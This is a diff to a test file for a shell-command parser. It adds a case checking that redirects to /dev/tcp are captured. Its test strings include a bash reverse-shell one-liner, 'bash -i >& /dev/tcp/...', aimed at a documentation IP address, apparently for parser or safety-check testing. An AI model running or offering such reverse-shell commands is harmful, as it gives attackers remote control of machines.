@@ -70,6 +70,10 @@ describe('structure', () => {
   })
 
   test('redirects and what is piped in are kept', () => {
+    expect(parseCommand('bash -c "</dev/tcp/192.0.2.1/44"')[0]).toMatchObject({
+      program: ':',
+      redirects: [{ op: '<', target: '/dev/tcp/192.0.2.1/44' }],
+    })
     expect(parseCommand('bash -i >& /dev/tcp/192.0.2.1/44 0>&1')[0]?.redirects[0]).toEqual({
       op: '>&',
       target: '/dev/tcp/192.0.2.1/44',
